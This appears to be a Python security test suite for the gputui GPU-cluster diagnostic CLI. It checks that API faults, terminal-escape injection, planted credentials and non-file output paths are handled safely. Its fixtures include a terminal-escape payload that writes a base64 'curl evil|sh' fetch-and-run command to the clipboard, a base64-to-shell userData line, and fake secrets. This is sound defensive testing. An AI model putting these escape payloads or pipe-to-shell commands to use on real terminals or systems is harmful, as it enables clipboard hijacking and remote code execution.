"""Hostile and broken inputs: API fault classes, terminal escapes, planted secrets, output paths that are
not files, hostile bundle members. Each trial says what was tried and whether gputui held.

"Held" for an API fault: no internal error and no false all-clear - the root cause is found, or the
output says what could not be seen (exit 4), or that the target could not be read (exit 2/5), in one
line. For text: no raw control character reaches the output. For a secret: not one byte of it in the
bundle. For an output path: refused, and left as it was.
"""

from __future__ import annotations

import contextlib
import copy
import functools
import gzip
import io
import json
import os
import re
import stat
import tarfile
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from gputui.sim.cluster import SimCluster
from gputui.sim.scenario import load_scenario

POD = "pod/ml/finetune-llama-70b-0-pvdg2"
PAYLOAD = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b31m\u202eevil\r[bold red]x[/]"
_RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
_SOURCES = {"events": "events", "nodes": "nodes", "pods": "pods", "nodeclaims": "nodeclaims.karpenter.sh"}
_PERSISTENT = ("403", "500", "503", "429 forever", "reset", "truncated", "html", "malformed")


@dataclass
class Trial:
    group: str
    name: str
    ok: bool = False
    detail: str = ""

    def to_json(self) -> dict[str, Any]:
        return dict(self.__dict__)


def _cli(*argv: str) -> tuple[int, str, str]:
    from gputui.cli.program import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = int(main(list(argv)))
        except BaseException as exc:  # noqa: BLE001 - escaping main() is a failed trial, not a crash here
            err.write(f"escaped main(): {type(exc).__name__}: {exc}\n")
            code = 1
    return code, out.getvalue(), err.getvalue()


@contextlib.contextmanager
def _served(scenario: Any, tmp: Path) -> Iterator[tuple[SimCluster, Path]]:
    sc = load_scenario(scenario) if isinstance(scenario, str) else scenario
    old = os.environ.get("GPUTUI_NOW")
    assert sc.reference_time is not None, "the trials' scenarios are anchored at a reference time"
    os.environ["GPUTUI_NOW"] = sc.reference_time.isoformat()
    try:
        with SimCluster(sc, debug_pod_delay=0.05) as sim:
            yield sim, sim.write_kubeconfig(tmp / "kubeconfig")
    finally:
        if old is None:
            os.environ.pop("GPUTUI_NOW", None)
        else:
            os.environ["GPUTUI_NOW"] = old


def _inject(sim: SimCluster, mode: str, source: str) -> None:
    path = "/" + source
    if mode == "403":
        sim.forbid(_SOURCES[source])
    elif mode in ("500", "503"):
        sim.fail_requests(100_000, int(mode), path_contains=path)
    elif mode == "429 forever":
        sim.throttle(100_000, 1, path_contains=path)
    else:
        sim.break_answers(100_000, mode, path_contains=path)  # type: ignore[arg-type]


def _held(code: int, out: str, err: str) -> tuple[bool, str]:
    text = out + err
    if code == 1 or "internal error" in text or "Traceback" in text or "escaped main()" in text:
        return False, f"exit {code}: {err.strip()[:200]}"
    if code == 0 or "No problems found" in text:
        return False, f"false all-clear (exit {code})"
    if code == 3:
        return ("GT104 spot-capacity-shortage" in out), "exit 3, root cause found"
    if code == 4:
        return ("could not see" in text or "no check could run" in text), "exit 4, says what it could not see"
    if code in (2, 5):
        lines = err.strip().splitlines()
        return (len(lines) == 1 and ("cannot read" in err or "unreachable" in err)), f"exit {code}: {err.strip()[:160]}"
    return False, f"exit {code}"


def api_fault_trials(tmp: Path, say: Callable[[str], None]) -> list[Trial]:
    trials: list[Trial] = []
    with _served("spot-shortage", tmp) as (sim, kc):
        def trial(name: str, setup: Callable[[], None], target: tuple[str, ...]) -> None:
            sim.faults.clear()
            for r in (*_SOURCES.values(), "nodepools.karpenter.sh", "ec2nodeclasses.karpenter.k8s.aws", "namespaces",
                      "daemonsets.apps", "poddisruptionbudgets.policy", "runtimeclasses.node.k8s.io"):
                sim.allow(r)
            setup()
            code, out, err = _cli("diagnose", *target, "--kubeconfig", str(kc))
            ok, detail = _held(code, out, err)
            trials.append(Trial("api-faults", f"{name} ({'pod' if target else 'cluster'})", ok, detail))

        for target in ((), (POD,)):
            say(f"  API faults, {'pod target' if target else 'whole cluster'} ...")
            for mode in _PERSISTENT:
                for source in _SOURCES:
                    trial(f"{mode} on {source}", functools.partial(_inject, sim, mode, source), target)
            for mode in ("500", "reset", "truncated"):
                def once(m: str = mode) -> None:
                    for p in ("/nodes", "/pods", "/events", "/nodeclaims", "/nodepools", "/ec2nodeclasses"):
                        if m == "500":
                            sim.fail_requests(1, 500, path_contains=p)
                        else:
                            sim.break_answers(1, m, path_contains=p)  # type: ignore[arg-type]
                trial(f"one {mode} on each first request", once, target)
            if len(sim.objects("Event")) <= 500:
                sim.bulk_load({"apiVersion": "v1", "kind": "Event", "type": "Normal", "reason": "Pulled",
                               "message": f"filler {i}", "metadata": {"name": f"filler-{i:04d}", "namespace": "default"},
                               "involvedObject": {"kind": "Pod", "name": f"filler-{i}", "namespace": "default"}}
                              for i in range(600))
            trial("410 on a paged list's continue", lambda: sim.expire_continue(1), target)
        trial("a pod GET answered with a PodList",
              lambda: sim.break_answers(100_000, "list-for-get", path_contains="/pods/finetune"), (POD,))

        def forbid_all() -> None:
            for r in (*_SOURCES.values(), "nodepools.karpenter.sh", "ec2nodeclasses.karpenter.k8s.aws", "namespaces",
                      "daemonsets.apps", "poddisruptionbudgets.policy", "runtimeclasses.node.k8s.io"):
                sim.forbid(r)
        trial("403 on everything", forbid_all, ())
    return trials


def _no_raw(text: str) -> bool:
    return not any(ch in text for ch in _RAW) and "\\x1b]0;pwned" in text


def escape_trials(tmp: Path, say: Callable[[str], None]) -> list[Trial]:
    from rich.console import Console

    from diagnostics.model import Evidence, EvidenceKind, ObjectRef
    from gputui.output.text import evidence_line

    say("  terminal escapes through every output ...")
    trials: list[Trial] = []
    bundle = tmp / "escapes.tar.gz"
    with _served("spot-shortage", tmp) as (sim, kc):
        for ev in [e for e in sim.objects("Event") if e.get("reason") == "InsufficientCapacityError"]:
            md = ev["metadata"]
            sim.patch("Event", md["name"], {"message": ev["message"] + " " + PAYLOAD}, namespace=md["namespace"])
        code, out, _ = _cli("diagnose", "--kubeconfig", str(kc))
        trials.append(Trial("escapes", "diagnose (event message)", code == 3 and _no_raw(out)))
        code, out, _ = _cli("diagnose", POD, "--kubeconfig", str(kc))
        trials.append(Trial("escapes", "diagnose pod/X (event message)", code == 3 and _no_raw(out)))
        _cli("bundle", "-q", "--kubeconfig", str(kc), "-o", str(bundle))
    with tarfile.open(bundle) as tar:
        summary = next((tar.extractfile(m).read().decode() for m in tar.getmembers()  # type: ignore[union-attr]
                        if m.name.endswith("/SUMMARY.md")), "")
    trials.append(Trial("escapes", "SUMMARY.md", _no_raw(summary)))
    code, out, _ = _cli("diagnose", "--bundle", str(bundle))
    trials.append(Trial("escapes", "diagnose --bundle", code == 3 and _no_raw(out)))
    buf = io.StringIO()
    Console(file=buf, force_terminal=True, color_system=None, width=400).print(evidence_line(Evidence(
        kind=EvidenceKind.EVENT, subject=ObjectRef("NodeClaim", "c"), path="FailedLaunch" + PAYLOAD, value=PAYLOAD)))
    trials.append(Trial("escapes", "TUI evidence view (evidence_line)", _no_raw(buf.getvalue())))
    smi = tmp / "smi.txt"
    smi.write_text("NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver. " + PAYLOAD + "\n")
    code, out, err = _cli("debug", "--parse", str(smi))
    trials.append(Trial("escapes", "debug --parse (pasted output)", not any(ch in out + err for ch in _RAW)))
    for label, name in (("escapes in a member name", "evil\n\x1b[2J\x1b]0;x\x07/manifest.json"),
                        ("a 100k-character member name", "A" * 100_000 + "\nB")):
        path = tmp / "evil.tar.gz"
        raw = io.BytesIO()
        with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
            info = tarfile.TarInfo(name)
            info.size = 2
            tar.addfile(info, io.BytesIO(b"{}"))
        path.write_bytes(gzip.compress(raw.getvalue()))
        code, out, err = _cli("diagnose", "--bundle", str(path))
        ok = code == 2 and len(err.strip().splitlines()) == 1 and len(err) < 1000 and "\x1b" not in err
        trials.append(Trial("escapes", f"bundle error line: {label}", ok, err.strip()[:120]))
    return trials


SHAPES: dict[str, str] = {
    "Azure connection string in a joined argument": "AzPlantedKey0123456789abcdefghij==",
    "label whose key names a credential": "9f8e7d6c5b4a39281706",
    ".netrc password in userData": "NetrcPlanted771",
    "mysql -pX in a command": "MysqlPlanted662",
    "Slack webhook URL in an argument": "SlackPlantedSecret553xyz",
    "base64 piped to a shell in userData": "IyEvYmluL3NoCmV4cG9ydCBUT0tFTj1QbGFudGVkCg==",
    "env value": "hunter2-planted-env-S3cret",
    "credential flag argument": "tok-planted-args-9f8e7d",
    "credential annotation": "planted-annotation-secret-55",
    "bearer token in a log line": "planted.bearer.token-abc123XYZ",
    "URL password in a log line": "planted-url-pw-88",
    "AWS secret key in a log line": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "token in an event message": "planted-event-token-4242",
}


def _planted() -> Any:
    sc = copy.deepcopy(load_scenario("gpu-not-advertised"))
    pod = next(p for p in sc.objects["Pod"] if p["metadata"]["name"] == "llama3-lora-sft-0-h7x2k")
    c = pod["spec"]["containers"][0]
    s = list(SHAPES.values())
    c["args"] = [*c["args"], f"--conn=DefaultEndpointsProtocol=https;AccountName=a;AccountKey={s[0]};"
                 "EndpointSuffix=core.windows.net", "--notify", f"https://hooks.slack.com/services/T01/B02/{s[4]}",
                 "--api-token", s[7]]
    c["command"] = ["sh", "-c", f"mysql -uroot -p{s[3]} -h db app < /init.sql && exec python train.py"]
    c["env"] = [{"name": "DB_PASSWORD", "value": s[6]}]
    pod["metadata"].setdefault("labels", {})["api-token"] = s[1]
    pod["metadata"].setdefault("annotations", {})["example.com/db-password"] = s[8]
    sc.objects["EC2NodeClass"][0]["spec"]["userData"] = (
        f"#!/bin/bash\necho 'machine git.example.com login ci password {s[2]}' > /root/.netrc\n"
        f"echo {s[5]} | base64 -d | sh\n")
    key = next(iter(sc.logs))
    sc.logs[key] += json.dumps({"level": "ERROR", "message": "failed pulling", "error": (
        f"GET https://admin:{s[10]}@registry.example.com/v2 with Authorization: Bearer {s[9]} "
        f"aws_secret_access_key={s[11]}")}) + "\n"
    event = next(e for e in sc.objects["Event"] if e["involvedObject"]["kind"] == "Node")
    event["message"] += f" (token={s[12]})"
    return sc


def secret_trials(tmp: Path, say: Callable[[str], None]) -> list[Trial]:
    say("  planted secrets and node names ...")
    plain, named = tmp / "plain.tar.gz", tmp / "named.tar.gz"
    with _served(_planted(), tmp) as (sim, kc):
        _cli("bundle", "-q", "--kubeconfig", str(kc), "-o", str(plain))
        _cli("bundle", "-q", "--redact-names", "--kubeconfig", str(kc), "-o", str(named))
        names = [n["metadata"]["name"] for n in sim.objects("Node")]
    raw = gzip.decompress(plain.read_bytes())
    trials = [Trial("secrets", name, not any(f.encode() in raw for f in (v, json.dumps(v)[1:-1])))
              for name, v in SHAPES.items()]
    text = gzip.decompress(named.read_bytes()).decode("utf-8", "replace")
    left = [n for n in names if re.search(rf"(?<![\w.-]){re.escape(n)}(?![\w-]|\.\w)", text)]
    trials.append(Trial("secrets", "--redact-names: node names anywhere in the bundle", not left,
                        f"{len(left)} of {len(names)} left"))
    code, _out, _err = _cli("diagnose", "--bundle", str(named))
    trials.append(Trial("secrets", "--redact-names: the bundle reopens to its findings", code == 3, f"exit {code}"))
    return trials


def output_file_trials(tmp: Path, say: Callable[[str], None]) -> list[Trial]:
    say("  output paths that are not files ...")
    fifo = tmp / "fifo.tar.gz"
    os.mkfifo(fifo)
    link = tmp / "link.tar.gz"
    link.symlink_to(os.devnull)
    cases = (("a FIFO", fifo, stat.S_ISFIFO), ("a character device (/dev/null)", Path(os.devnull), stat.S_ISCHR),
             ("a symlink to a device", link, stat.S_ISLNK))
    trials = []
    with _served("healthy", tmp) as (_sim, kc):
        for label, path, kind in cases:
            code, _out, err = _cli("bundle", "--force", "--kubeconfig", str(kc), "-o", str(path))
            ok = code == 2 and "not a regular file" in err and kind(os.lstat(path).st_mode)
            trials.append(Trial("output-files", f"bundle -o {label} --force", ok, err.strip()[:120]))
    return trials


def hostile_matrix(progress: Callable[[str], None] | None = None) -> list[Trial]:
    say = progress or (lambda _t: None)
    with tempfile.TemporaryDirectory(prefix="gputui-hostile-") as d:
        root = Path(d)
        trials: list[Trial] = []
        for part, fn in (("faults", api_fault_trials), ("escapes", escape_trials), ("secrets", secret_trials),
                         ("files", output_file_trials)):
            sub = root / part
            sub.mkdir()
            trials += fn(sub, say)
    return trials


def summary(trials: list[Trial]) -> dict[str, dict[str, int]]:
    out: dict[str, dict[str, int]] = {}
    for t in trials:
        g = out.setdefault(t.group, {"tried": 0, "held": 0})
        g["tried"] += 1
        g["held"] += int(t.ok)
    return out
